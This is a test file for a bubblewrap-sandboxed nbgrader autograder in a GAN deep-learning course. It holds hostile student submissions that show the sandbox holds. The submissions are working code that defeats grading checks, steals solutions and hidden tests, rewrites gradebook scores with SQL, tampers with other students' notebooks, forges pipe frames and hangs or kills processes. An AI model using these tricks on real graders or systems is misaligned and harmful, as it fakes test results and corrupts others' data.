"""Hostile students against the whole autograder: real ``nbgrader autograde`` runs of lessons 3 and 5.

Every submission is graded the way an instructor grades (the repository's ``nbgrader_config.py``: kernels in the
bubblewrap sandbox, test cells hidden from the kernel and run by the grader, the student's functions called in the
sandboxed worker). Each attacker's real answers are wrong or unwritten (``raise NotImplementedError()``, ``return
torch.tensor(0.)``), so whatever its trick, it must score no more than the honest empty submission ``y_baseline``
(0 on every autograded cell), except the exercises it answers correctly on purpose, which it must keep; ``z_honest``
(the solutions), graded last, keeps full marks. The names sort in grading order: the attackers first.

Lesson 3 (03_mnist_gan)
- ``a_ast``        ``get_ipython().ast_transformers`` wraps every later cell in ``try/except BaseException``; also a
                   custom exception handler; every answer still raises NotImplementedError;
- ``b_subclass``   every function returns a ``torch.Tensor`` subclass whose comparisons, ``torch.equal``/``allclose``
                   (``__torch_function__``) and ``bool()`` always say "equal"/True;
- ``c_frames``     the functions walk up the stack (``sys._getframe``, ``inspect.stack()``) for ``expected``/reference
                   locals and return them (or call them);
- ``d_solutions``  the answer cells look for ``solutions/<lesson>/<lesson>.ipynb``, the gradebook, other students'
                   submitted and autograded notebooks in every folder up the tree (and the real course folders),
                   and exec the solution cells they find;
- ``e_damage``     (graded between other students) appends to gradebook.db and raises every score in it with SQL,
                   appends to the other students' submitted and autograded notebooks (of all three courses), the
                   solutions and nbgrader_config.py, plants an IPython startup file in the grader's IPYTHONDIR, leaves
                   a note in /dev/shm for a later student, and leaves a detached process that keeps trying the same
                   for ten minutes;
- ``i_monkey``     patches torch and NumPy (``torch.allclose``, ``torch.equal``, ``Tensor.__eq__``/``__lt__``/
                   ``__bool__``, ``np.allclose``) and the worker's own encoder;
- ``j_hooks``      ``get_ipython().events`` hooks print every later cell's source, the cell history and every notebook
                   file the kernel can read; its functions raise with every string the worker can reach: no hidden
                   test text may show in its autograded notebook or its feedback;
- ``k_liar``       returns objects that lie: ``__len__``, ``__getattr__``, ``__class__``, comparisons, and lying
                   tuple, dict, int and str subclasses; and looks for e_damage's note in /dev/shm.

Lesson 5 (05_cyclegan)
- ``a_noop``       replaces ``helpers.checks.core``'s checks (compare, check_tensor, check_against_reference, call, ...)
                   with no-ops from an answer cell (and again at every call); every answer returns 0;
- ``b_ast``        the ast_transformers attack of ``a_ast``;
- ``d_hunt``       looks for the reference functions: ``_GRADING_REFERENCES``, ``globals()``, ``gc.get_objects()``
                   and the ``__globals__`` of the other exercises' functions, in the kernel and in the worker;
- ``g_forge``      writes forged replies (a result, a setup, an "exited", garbage, a 1 TiB frame header) into the
                   worker's protocol pipe, found through /proc/self/fd;
- ``h_killparent`` ``os.kill(os.getppid(), SIGKILL)`` in generator_loss, the rest of it and every other answer
                   correct: the kill reaches no one (the exercise's PID namespace), so every answer keeps its points;
- ``l_huge``       huge outputs: 10 MB on one line and 20,000 lines in the kernel; a 10^12-element tensor, an 8 MB
                   tensor, a 200,000-item list and dict, a 100-deep list and a 10 MB exception message from the worker;
- ``p_leak``       its steps (whose worker may call the loss exercises) raise with everything they can read of those
                   functions (source, constants, closures, bytecode), kept in /tmp and /dev/shm for the next one: the
                   references run in the grader, so nothing of them may show;
- ``o_unfrozen``   not an attack but a real mistake that the grading outside the kernel must still catch:
                   generator_step never freezes D_A and D_B (D's .grad is cleared at the end, so only the test's
                   forward hooks on D can tell), every other answer correct.

Crashes (lesson 3 again, with 8 s timeouts instead of the shipped 60 s so that each hang costs seconds)
- ``f_exit``       ``os._exit(0)`` at the top of the sample_noise answer cell, every other answer correct;
- ``m_hang``       ``while True: pass`` at the top of the generator_loss answer cell, every other answer correct;
- ``n_deaf``       the same in sample_noise, with SIGINT ignored first (nbgrader's interrupt cannot stop it).
Each may lose the exercise it breaks, and only that one.

The three autogrades run at the same time (one course each); then ``nbgrader generate_feedback`` for ``z_honest``
and ``j_hooks``: no hidden test may show there, every visible one must. Needs bubblewrap: skipped without it,
except under CI (.ci/run installs it), where it fails.
"""

from __future__ import annotations

import hashlib
import html
import json
import os
import re
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import nbformat
import pytest
from course import (
    ROOT,
    fill,
    grade_id,
    nbgrader_env,
    read,
    require_bwrap,
    scores,
    solution_path,
    solution_sources,
    submit,
    up_to_last_test,
)

from grader import sandbox

L3, L5 = "03_mnist_gan", "05_cyclegan"
CRASH = "crash"  # the key of the third run: lesson 3 with short timeouts
CRASH_TIMEOUT = 8  # s, Execute.timeout and GradeOutsideKernel.timeout of the crash run only
PAYLOAD = "PWN" + "ED"  # what the damage attacks write; nowhere in the sources
LEAK = "LEA" + "KED:"  # what an attacker prints (or raises) when it found something it should not see
ZERO = "return torch.tensor(0.)"
pytestmark = pytest.mark.slow


# --- the attacks ---------------------------------------------------------------------------------------------------

AST_ATTACK = '''
import ast as _ast


class _Swallow(_ast.NodeTransformer):
    """Every later cell becomes try: <cell> except BaseException: pass."""

    def visit_Module(self, node):
        handler = _ast.ExceptHandler(type=_ast.Name(id="BaseException", ctx=_ast.Load()), name=None,
                                     body=[_ast.Pass()])
        wrapped = _ast.Module(body=[_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[],
                                             finalbody=[])], type_ignores=[])
        return _ast.fix_missing_locations(_ast.copy_location(wrapped, node))


try:
    _ip = get_ipython()
except NameError:  # the grading worker: no IPython
    _ip = None
if _ip is not None:
    _ip.ast_transformers.append(_Swallow())
    _ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
    print("ATTACK READY: every later cell is wrapped in try/except")
'''

SUBCLASS_ATTACK = '''
class _Equal(torch.Tensor):
    """Every comparison says equal, every test of truth says True."""

    _lies = {"eq", "ne", "lt", "le", "gt", "ge", "equal", "allclose", "isclose", "all", "any", "__eq__", "__ne__",
             "__lt__", "__le__", "__gt__", "__ge__", "__bool__", "isfinite", "isnan"}

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in cls._lies:
            return name not in ("ne", "__ne__", "isnan")
        return super().__torch_function__(func, types, args, kwargs or {})

    def __bool__(self):
        return True

    def __eq__(self, other):
        return True

    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = torch.Tensor.__hash__


def _lie(*shape):
    return torch.zeros(shape).as_subclass(_Equal)
'''

FRAMES_ATTACK = '''
def _from_the_stack(*args):
    """A tensor named like the expected value, or a reference function, in any caller's frame."""
    import inspect
    import sys

    frames, frame = [], sys._getframe(1)
    while frame is not None:
        frames.append(frame)
        frame = frame.f_back
    try:
        frames += [info.frame for info in inspect.stack()]
    except Exception:
        pass
    for frame in frames:
        for key, value in list(frame.f_locals.items()):
            if not key.startswith(("expected", "ref", "want", "target", "correct", "mistake")):
                continue
            if isinstance(value, torch.Tensor):
                return value
            if callable(value):
                try:
                    return value(*args)
                except Exception:
                    continue
    return None
'''

SOLUTIONS_ATTACK = '''
def _steal(namespace):
    """Exec every solution cell found in solutions/, other students' notebooks and the gradebook."""
    import glob
    import json
    import os
    import re
    import sqlite3

    here = os.getcwd()
    roots = [here] + [os.path.abspath(os.path.join(here, *[".."] * k)) for k in range(1, 9)]
    roots += __COURSES__ + [__ROOT__, "/work", "/tmp", "/root", "/home", os.path.expanduser("~")]
    patterns = ["solutions/*/*.ipynb", "source/*/*.ipynb", "release/*/*.ipynb", "notebooks/*/*.ipynb",
                "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "*/*.ipynb", "*.ipynb", "gradebook.db",
                "*/gradebook.db"]
    found, stolen = set(), []
    for root in dict.fromkeys(roots):
        for pattern in patterns:
            try:
                found.update(glob.glob(os.path.join(root, pattern)))
            except Exception:
                pass
    for path in sorted(found):
        try:
            if path.endswith(".db"):
                con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
                sources = [row[0] for row in con.execute("SELECT source FROM source_cell")]
                con.close()
            else:
                with open(path) as fh:
                    cells = json.load(fh)["cells"]
                sources = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"] for c in cells
                           if c.get("cell_type") == "code"
                           and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
        except Exception:
            continue
        for source in sources:
            if "NotImplementedError" in source or "def " not in source:
                continue
            try:
                exec(re.sub(r"(?m)^.*### (BEGIN|END) (SOLUTION|HIDDEN TESTS).*$", "", source), namespace)
                stolen.append(path)
            except Exception:
                pass
    if stolen:
        print("LEA" + "KED:", sorted(set(stolen)))
    print(f"ATTACK READY: searched {len(found)} files")
    return stolen
'''

DAMAGE = r'''
def _damage():
    """Try every way to change the course; return what worked."""
    import glob
    import os
    import sqlite3

    mark = "PWN" + "ED"
    here = os.getcwd()
    courses = set(__COURSES__) | {os.path.abspath(os.path.join(here, *[".."] * k)) for k in range(1, 5)}
    hits = []

    def attempt(label, action):
        try:
            action()
            hits.append(label)
        except Exception:
            pass

    def append(path, text):
        with open(path, "a") as fh:
            fh.write(text)

    def raise_scores(path):
        con = sqlite3.connect(path, timeout=2)
        con.execute("UPDATE grade SET manual_score = 1000")
        con.commit()
        con.close()

    def plant(folder):
        os.makedirs(os.path.join(folder, "profile_default", "startup"), exist_ok=True)
        with open(os.path.join(folder, "profile_default", "startup", "00-hostile.py"), "w") as fh:
            fh.write("import builtins\nbuiltins." + mark + " = True\n")

    for course in sorted(courses):
        db = os.path.join(course, "gradebook.db")
        if os.path.exists(db):
            attempt(f"sql {db}", lambda db=db: raise_scores(db))
            attempt(f"append {db}", lambda db=db: append(db, mark))
        for pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "solutions/*/*.ipynb",
                        "nbgrader_config.py"):
            for path in glob.glob(os.path.join(course, pattern)):
                if "/e_damage/" not in path:
                    attempt(f"append {path}", lambda path=path: append(path, "\n# " + mark + "\n"))
    attempt("plant startup file", lambda: plant(__IPYTHONDIR__))
    try:  # the sandbox's own /dev/shm may take it (not a hit): k_liar, graded later, must not find it
        append("/dev/shm/hostile-note", mark)
    except OSError:
        pass
    print(f"ATTACK READY: tried {len(courses)} course folders")
    return hits
'''

DAMAGE_CELL = (
    DAMAGE
    + r'''
import subprocess as _subprocess
import sys as _sys

_LATER = _DAMAGE_SOURCE + """
import time
for _ in range(200):  # 10 minutes: still alive when the test looks for it, if the sandbox let it live
    time.sleep(3)
    _damage()
"""
try:
    _subprocess.Popen([_sys.executable, "-c", _LATER, "__TOKEN__"], start_new_session=True, close_fds=True,
                      stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
except Exception:
    pass
_hits = _damage()
if _hits:
    print("LEA" + "KED:", _hits)
'''
)

HOOKS_ATTACK = r'''
import glob as _glob

try:
    _ip = get_ipython()
except NameError:
    _ip = None
if _ip is not None:
    print("ATTACK READY: hooks registered")
    _ip.events.register("pre_run_cell", lambda info: print("NEXT CELL:", info.raw_cell))
    _ip.events.register("post_run_cell", lambda result: print("CELL RAN:", result.info.raw_cell))
    print("HISTORY:", _ip.user_ns.get("In"))
    for _path in _glob.glob("*.ipynb") + _glob.glob("../**/*.ipynb", recursive=True):
        try:
            with open(_path) as _fh:
                print(_path, _fh.read())
        except Exception:
            pass


def _everything():
    """Every string of every code object the worker holds that did not come from the answer cells."""
    import gc
    import types
    seen, out = set(), []
    for obj in gc.get_objects():
        code = getattr(obj, "__code__", None) if isinstance(obj, (types.FunctionType, types.MethodType)) else None
        if code is None or code.co_filename.startswith("<your answer") or code in seen:
            continue
        seen.add(code)
        if code.co_filename.startswith("<"):
            out += [code.co_filename, code.co_name] + [c for c in code.co_consts if isinstance(c, str)]
    return " | ".join(out)
'''

HUNT_ATTACK = r'''
def _hunt(name):
    """The course's reference for exercise `name`, wherever the grader may have left it."""
    import gc
    import types
    wanted = {"lsgan_loss": "_ref_lsgan", "discriminator_loss": "_ref_discriminator",
              "cycle_consistency_loss": "_ref_cycle", "identity_loss": "_ref_identity",
              "generator_loss": "_ref_generator", "generator_step": "_ref_g_step", "discriminator_step": "_ref_d_step"}
    want = wanted[name]
    if False:  # names every other exercise, so that the grader binds their references in the worker
        print(lsgan_loss, discriminator_loss, cycle_consistency_loss, identity_loss, generator_loss)
    pool = []
    for other in ("lsgan_loss", "discriminator_loss", "cycle_consistency_loss", "identity_loss", "generator_loss",
                  "generator_step", "discriminator_step"):
        if callable(globals().get(other)):
            pool.append(globals()[other])
    table = globals().get("_GRADING_REFERENCES")
    if isinstance(table, dict) and callable(table.get(name)):
        return table[name]
    if callable(globals().get(want)):
        return globals()[want]
    for f in pool + [o for o in gc.get_objects() if isinstance(o, types.FunctionType)]:
        if getattr(f, "__name__", "") == want and not getattr(f.__code__, "co_filename", "").startswith("<your"):
            return f
        g = getattr(f, "__globals__", {})
        if isinstance(g.get("_GRADING_REFERENCES"), dict) and callable(g["_GRADING_REFERENCES"].get(name)):
            return g["_GRADING_REFERENCES"][name]
        if isinstance(g.get(want), types.FunctionType):
            return g[want]
    return None


if "get_ipython" in globals() and (globals().get("_GRADING_REFERENCES") or any(
        k.startswith("_ref_") for k in globals())):
    print("LEA" + "KED:", [k for k in globals() if k.startswith("_ref_") or k == "_GRADING_REFERENCES"])
'''

LEAK_ATTACK = r'''
def _reference_code():
    """Everything the worker can learn of the functions it may call for the other exercises: source, constants,
    names, closures, bytecode; kept in /tmp and /dev/shm for a later exercise, and raised into the feedback."""
    import dis
    import inspect
    import io

    if False:  # names every other exercise, so that the grader binds their references in the worker
        print(lsgan_loss, discriminator_loss, cycle_consistency_loss, identity_loss, generator_loss)
    parts = []
    for name in ("lsgan_loss", "discriminator_loss", "cycle_consistency_loss", "identity_loss", "generator_loss"):
        f = globals().get(name)
        code = getattr(f, "__code__", None)
        if code is None:
            continue
        if not code.co_filename.startswith("<your") and "grader" not in code.co_filename:
            parts.append("LEA" + "KED: the code of " + name + " from " + code.co_filename)
        try:
            parts.append(inspect.getsource(f))
        except (OSError, TypeError) as error:
            parts.append(repr(error))
        parts += [repr(code.co_consts), repr(code.co_names)]
        for cell in getattr(f, "__closure__", None) or ():
            try:
                parts.append(repr(getattr(cell.cell_contents, "__dict__", cell.cell_contents))[:500])
            except ValueError:
                pass
        text = io.StringIO()
        dis.dis(f, file=text)
        parts.append(text.getvalue()[:2000])
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(folder + "/p_leak.txt") as kept:
                parts.append(kept.read()[:2000])
        except OSError:
            pass
        try:
            with open(folder + "/p_leak.txt", "w") as kept:
                kept.write("\n".join(parts))
        except OSError:
            pass
    return "\n".join(parts)
'''

NOOP_ATTACK = '''
def _disarm():
    """Every check of helpers.checks.core becomes a no-op that passes."""
    import sys
    import helpers.checks.core as grading

    def passes(*args, **kwargs):
        return args[0] if args else 0.0

    for name in ("compare", "check_tensor", "check_against_reference", "call", "require_grad_flow", "check_number",
                 "passed", "changed_parameters", "max_difference", "parameters_of", "_close", "_describe"):
        setattr(grading, name, passes)
    grading._close = lambda *args, **kwargs: True
    grading.changed_parameters = lambda *args, **kwargs: ["everything"]
    grading.GradingError = type("GradingError", (Exception,), {})
    for module in list(sys.modules.values()):
        for name in ("compare", "check_tensor", "check_against_reference", "call", "require_grad_flow"):
            owner = getattr(module, "__name__", "")
            if getattr(module, name, None) is not None and owner.startswith(("helpers", "__")):
                try:
                    setattr(module, name, passes)
                except Exception:
                    pass


_disarm()
print("ATTACK READY: helpers.checks.core disarmed")
'''

MONKEY_ATTACK = """
import numpy as _np

def _yes(*args, **kwargs):
    return True

torch.allclose = torch.equal = torch.isclose = _yes
torch.Tensor.__eq__ = torch.Tensor.__lt__ = torch.Tensor.__le__ = torch.Tensor.__gt__ = torch.Tensor.__ge__ = _yes
torch.Tensor.__bool__ = _yes
torch.Tensor.allclose = torch.Tensor.equal = _yes
_np.allclose = _np.array_equal = _yes
try:
    import grader.protocol as _wire

    _real_describe = _wire.encode_error
    # an exception becomes a "result": 0, and every tensor is sent as 0-d zeros
    _wire.encode_error = lambda error: {"return": _wire.encode_tensor(torch.zeros(())), "args": [], "kwargs": {}}
    _wire.encode_return = lambda value, leaves, depth=0: _wire.encode_tensor(torch.zeros(()))
except ImportError:
    pass
"""

FORGE_ATTACK = r'''
def _forge(n_args):
    """Forged frames into every writable pipe above fd 2 (the worker's protocol), as grader.protocol frames them."""
    import base64
    import fcntl
    import json
    import os
    import struct

    zero = {"t": "tensor", "dtype": "float32", "shape": [], "device": "cpu", "rg": False,
            "data": base64.b64encode(struct.pack("<f", 0.0)).decode(), "sub": None}
    frames = [json.dumps({"return": zero, "args": [{"t": "none"}] * n_args, "kwargs": {}, "stdout": "passed"}),
              json.dumps({"setup": {}, "defined": ["lsgan_loss", "discriminator_loss"]}),
              json.dumps({"exited": 0}), "PASSED", json.dumps([1, 2, 3])]
    for entry in os.listdir("/proc/self/fd"):
        fd = int(entry)
        if fd <= 2:
            continue
        try:
            if not os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                continue
            if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE not in (os.O_WRONLY, os.O_RDWR):
                continue
            for frame in frames:
                data = frame.encode()
                os.write(fd, struct.pack(">Q", len(data)) + data)
            os.write(fd, struct.pack(">Q", 1 << 40))  # a frame of 1 TiB, never sent
        except OSError:
            pass
'''

LIAR_ATTACK = '''
import os as _os

for _note in ("/dev/shm/hostile-note", _os.path.expanduser("~/hostile-note")):
    if _os.path.exists(_note):  # e_damage, graded before, left it: the sandboxes share a folder
        print("LEA" + "KED:", _note, open(_note).read())

class _Liar:
    """Says it has 3 items, any attribute, equals everything, and is a torch.Tensor."""

    @property
    def __class__(self):
        return torch.Tensor

    def __len__(self):
        return 3

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __iter__(self):
        return iter([torch.zeros(()), torch.zeros(()), torch.zeros(())])

    def __getitem__(self, index):
        return torch.zeros(())

    def __bool__(self):
        return True

    def __eq__(self, other):
        return True

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __ne__(self, other):
        return False

    def __float__(self):
        return 0.0

    def __hash__(self):
        return 0


class _LongTuple(tuple):
    def __len__(self):
        return 3

    def __eq__(self, other):
        return True


class _AnyInt(int):
    def __eq__(self, other):
        return True

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __hash__(self):
        return 0


class _AnyDict(dict):
    def __getitem__(self, key):
        return torch.zeros(())

    def __eq__(self, other):
        return True


class _AnyStr(str):
    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0
'''

# generator_step without freezing D_A and D_B (its backward computes their gradients), then their .grad cleared so
# that no gradient of G's loss is left in them: the test's forward hooks on D must see the unfrozen calls.
UNFROZEN = """
fake_b, fake_a = G_AB(real_a), G_BA(real_b)
loss = generator_loss(D_B(fake_b), D_A(fake_a), real_a, G_BA(fake_b), real_b, G_AB(fake_a), G_BA(real_a),
                      G_AB(real_b), lambda_cycle, lambda_identity)
opt_G.zero_grad()
loss.backward()
opt_G.step()
D_A.zero_grad(set_to_none=True)
D_B.zero_grad(set_to_none=True)
return loss.detach(), fake_a.detach(), fake_b.detach()
"""

HUGE_CELL = """
print("x" * 10_000_000)
for _i in range(20_000):
    print(_i)
"""


def answer(def_line: str, body: str, prefix: str = "") -> str:
    """An answer cell: ``prefix`` (top-level attack code), then the exercise's ``def`` line and ``body``."""
    body = "\n".join("    " + line if line else "" for line in body.strip("\n").splitlines())
    return f"{prefix.strip()}\n\n\n{def_line}\n{body}\n" if prefix.strip() else f"{def_line}\n{body}\n"


def def_lines(released: nbformat.NotebookNode) -> dict[str, str]:
    """grade_id -> the whole ``def`` header of each exercise (up to the line ending with ``:``)."""
    out = {}
    for cell in released.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("solution"):
            lines = []
            for line in cell.source.splitlines():
                lines.append(line)
                if line.rstrip().endswith(":"):
                    break
            out[meta["grade_id"]] = "\n".join(lines)
    return out


def argument_names(def_line: str) -> list[str]:
    inside = def_line[def_line.index("(") + 1 : def_line.rindex(")")]
    return [part.split("=")[0].strip() for part in inside.replace("\n", " ").split(",") if part.strip()]


LIES = [
    "_Liar()",
    "_LongTuple((torch.zeros(()),))",
    "_AnyInt(0)",
    "_AnyDict()",
    "_AnyStr('0')",
    "_LongTuple((_Liar(), _Liar(), _Liar()))",
    "_Liar()",
]


def lesson3_attacks(defs: dict[str, str], courses: list[str], ipythondir: str, token: str) -> dict[str, dict]:
    """student -> {"answers": {grade_id: source}, "base": "released" | "solutions"}."""
    first = "sample_noise"
    # the function exercises; lesson 3's networks (classes) are attacked in tests/test_remote.py and the catalogue
    everything = [gid for gid, line in defs.items() if not line.startswith("class ")]
    shapes = {
        "sample_noise": "_lie(batch_size, z_dim)",
        "discriminator_loss": "_lie()",
        "generator_loss": "_lie()",
        "discriminator_step": "_lie()",
        "generator_step": "_lie()",
    }
    steal_prefix = SOLUTIONS_ATTACK.replace("__COURSES__", repr(courses)).replace("__ROOT__", repr(str(ROOT)))
    damage = DAMAGE.replace("__COURSES__", repr(courses)).replace("__IPYTHONDIR__", repr(ipythondir))
    damage_cell = (
        "_DAMAGE_SOURCE = "
        + repr(damage)
        + "\n"
        + DAMAGE_CELL.replace("__COURSES__", repr(courses))
        .replace("__IPYTHONDIR__", repr(ipythondir))
        .replace("__TOKEN__", token)
    )
    return {
        "a_ast": {"answers": {first: answer(defs[first], "raise NotImplementedError()", AST_ATTACK)}},
        "b_subclass": {
            "answers": {gid: answer(defs[gid], f"return {shapes[gid]}", SUBCLASS_ATTACK) for gid in everything}
        },
        "c_frames": {
            "answers": {
                gid: answer(
                    defs[gid],
                    f"""
stolen = _from_the_stack({", ".join(argument_names(defs[gid]))})
if stolen is not None:
    return stolen
raise NotImplementedError()""",
                    FRAMES_ATTACK,
                )
                for gid in everything
            }
        },
        "d_solutions": {
            "answers": {
                gid: answer(defs[gid], "raise NotImplementedError()", steal_prefix) + "\n_steal(globals())\n"
                for gid in everything
            }
        },
        "e_damage": {
            "answers": {
                first: answer(defs[first], "raise NotImplementedError()", damage_cell),
                "discriminator_loss": answer(
                    defs["discriminator_loss"],
                    """
hits = _damage()
if hits:
    raise RuntimeError("LEA" + "KED: " + repr(hits))
raise NotImplementedError()""",
                    damage,
                ),
            }
        },
        "i_monkey": {"answers": {gid: answer(defs[gid], ZERO, MONKEY_ATTACK) for gid in everything}},
        "j_hooks": {
            "answers": {
                gid: answer(defs[gid], 'raise RuntimeError("everything: " + _everything())', HOOKS_ATTACK)
                for gid in everything
            }
        },
        "k_liar": {
            "answers": {gid: answer(defs[gid], f"return {lie}", LIAR_ATTACK) for gid, lie in zip(everything, LIES)}
        },
    }


def lesson5_attacks(defs: dict[str, str]) -> dict[str, dict]:
    # the function exercises; networks (classes) reach the grader as lesson 3's do (tests/test_remote.py attacks that)
    everything = [gid for gid, line in defs.items() if not line.startswith("class ")]
    first = everything[0]
    huge_returns = {  # results the grader must refuse or survive; one 51-million-element tensor would cost ~20-60 s
        "lsgan_loss": "torch.empty(10**12, device='meta')",
        "discriminator_loss": "list(range(200_000))",
        "cycle_consistency_loss": "nested",
        "identity_loss": None,
        "generator_loss": "torch.zeros(8_000_000, dtype=torch.uint8)",
        "generator_step": "{i: i for i in range(200_000)}",
        "discriminator_step": "nested",
    }

    def huge(gid):
        if huge_returns[gid] is None:
            return 'raise RuntimeError("y" * 10_000_000)'
        return "nested = []\nfor _ in range(100):\n    nested = [nested]\nreturn " + huge_returns[gid]

    solution = solution_sources(L5)["generator_loss"]
    assert solution.startswith(defs["generator_loss"]), "the generator_loss solution does not start with its def line"
    killing = solution.replace(
        defs["generator_loss"],
        defs["generator_loss"] + "\n    import os, signal\n    os.kill(os.getppid(), signal.SIGKILL)",
        1,
    )
    forged = ("lsgan_loss", "generator_step")  # each forgery costs a worker restart (seconds): two are enough
    return {
        "a_noop": {"answers": {gid: answer(defs[gid], f"_disarm()\n{ZERO}", NOOP_ATTACK) for gid in everything}},
        "b_ast": {"answers": {first: answer(defs[first], "raise NotImplementedError()", AST_ATTACK)}},
        "d_hunt": {
            "answers": {
                gid: answer(
                    defs[gid],
                    f"""
reference = _hunt({gid!r})
if reference is None:
    {ZERO}
return reference(*[value for value in locals().values()][:reference.__code__.co_argcount])""",
                    HUNT_ATTACK,
                )
                for gid in everything
            }
        },
        "g_forge": {
            "answers": {
                gid: answer(
                    defs[gid],
                    f"_forge({len(argument_names(defs[gid]))})\n{ZERO}" if gid in forged else ZERO,
                    FORGE_ATTACK,
                )
                for gid in everything
            }
        },
        "h_killparent": {"base": "solutions", "answers": {"generator_loss": killing}},
        "o_unfrozen": {"base": "solutions", "answers": {"generator_step": answer(defs["generator_step"], UNFROZEN)}},
        "p_leak": {
            "answers": {
                gid: answer(defs[gid], "raise RuntimeError(_reference_code()[:20000])", LEAK_ATTACK)
                for gid in ("generator_step", "discriminator_step")
            }
        },
        "l_huge": {
            "answers": {
                **{gid: answer(defs[gid], huge(gid)) for gid in everything},
                first: HUGE_CELL + "\n\n" + answer(defs[first], huge(first)),
            }
        },
    }


def crash_attacks(defs: dict[str, str]) -> dict[str, dict]:
    return {
        "f_exit": {
            "base": "solutions",
            "answers": {
                "sample_noise": "import os\n\nos._exit(0)\n\n\n"
                + answer(defs["sample_noise"], "return torch.randn(batch_size, z_dim, device=device)")
            },
        },
        "m_hang": {
            "base": "solutions",
            "answers": {
                "generator_loss": "while True:\n    pass\n\n\n"
                + answer(defs["generator_loss"], "return -torch.log(d_fake.clamp(1e-7, 1 - 1e-7)).mean()")
            },
        },
        "n_deaf": {
            "base": "solutions",
            "answers": {
                "sample_noise": (
                    "import signal\n\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n\n\n"
                    + answer(defs["sample_noise"], "return torch.randn(batch_size, z_dim, device=device)")
                )
            },
        },
    }


# Exercises an attacker answers correctly on purpose: it must keep exactly these points, and only these.
KEEPS = {
    # its kill reaches no one (the parent it sees is its namespace's process 1, which ignores it) and the rest of
    # generator_loss is the solution: every answer is correct, and the worker that judges the others is untouched
    (L5, "h_killparent"): {
        "test_ResnetBlock",
        "test_NLayerDiscriminator",
        "test_lsgan_loss",
        "test_discriminator_loss",
        "test_cycle_consistency_loss",
        "test_identity_loss",
        "test_generator_loss",
        "test_generator_step",
        "test_discriminator_step",
    },
    (L5, "o_unfrozen"): {
        "test_ResnetBlock",
        "test_NLayerDiscriminator",
        "test_lsgan_loss",
        "test_discriminator_loss",
        "test_cycle_consistency_loss",
        "test_identity_loss",
        "test_generator_loss",
        "test_discriminator_step",
    },
    (CRASH, "f_exit"): {
        "test_Generator",
        "test_Discriminator",
        "test_discriminator_loss",
        "test_generator_loss",
        "test_discriminator_step",
        "test_generator_step",
    },
    (CRASH, "m_hang"): {
        "test_Generator",
        "test_Discriminator",
        "test_sample_noise",
        "test_discriminator_loss",
        "test_discriminator_step",
        "test_generator_step",
    },
    (CRASH, "n_deaf"): {
        "test_Generator",
        "test_Discriminator",
        "test_discriminator_loss",
        "test_generator_loss",
        "test_discriminator_step",
        "test_generator_step",
    },
}
ATTACK_NAMES = {
    "a_ast": "ast_transformers wrapping every later cell in try/except",
    "a_noop": "helpers.checks.core's checks replaced with no-ops",
    "b_ast": "ast_transformers wrapping every later cell in try/except",
    "b_subclass": "a torch.Tensor subclass that always compares equal",
    "c_frames": "stack walking for the expected values and references",
    "d_hunt": "hunting the reference functions (_GRADING_REFERENCES, globals(), gc, __globals__)",
    "d_solutions": "reading solutions/, the gradebook and other students' notebooks",
    "e_damage": "writing the gradebook, other students' notebooks, a startup file, a detached process",
    "f_exit": "os._exit(0) in the sample_noise answer cell",
    "g_forge": "forged frames in the worker's protocol pipe",
    "h_killparent": "os.kill(os.getppid(), SIGKILL) in generator_loss",
    "i_monkey": "torch / NumPy / grader.protocol monkeypatched",
    "j_hooks": "IPython event hooks printing every later cell and every notebook file the kernel can read",
    "k_liar": "objects whose __len__, __getattr__, __class__ and comparisons lie",
    "l_huge": "huge outputs in the kernel and huge results from the worker",
    "o_unfrozen": "generator_step that never freezes D_A and D_B, then clears their .grad (a real mistake)",
    "p_leak": "raising the code, constants, closures and bytecode of the functions it may call for other exercises",
    "m_hang": "an endless loop at the top of the generator_loss answer cell",
    "n_deaf": "an endless loop that ignores SIGINT at the top of the sample_noise answer cell",
}


# --- building and grading the courses ------------------------------------------------------------------------------


def trimmed(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """An attacker's notebook: up to the last test cell, its setup cell cut down to ``import torch`` and its data and
    plotting cells left out (none is graded): the attacks need the kernel and the worker, not the lesson's data, and
    each attacker grades in seconds less."""
    notebook = up_to_last_test(notebook)
    first_code = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code")
    notebook.cells[first_code].source = "import torch\nfrom torch import nn"
    notebook.cells = [
        c
        for i, c in enumerate(notebook.cells)
        if c.cell_type == "markdown" or i == first_code or c.metadata.get("nbgrader")
    ]
    return notebook


def submission(released, lesson: str, spec: dict) -> nbformat.NotebookNode:
    answers = dict(solution_sources(lesson)) if spec.get("base") == "solutions" else {}
    answers.update(spec["answers"])
    return trimmed(fill(released, answers))


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def snapshot(course: Path) -> dict[str, str]:
    """Hashes of what the attacks must not change: every submission, the sources, the config."""
    paths = [*course.glob("submitted/*/*/*"), *course.glob("solutions/*/*"), course / "nbgrader_config.py"]
    return {str(p.relative_to(course)): digest(p) for p in paths if p.is_file()}


def processes_with(token: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    pids.append(int(entry.name))
            except OSError:
                pass
    return pids


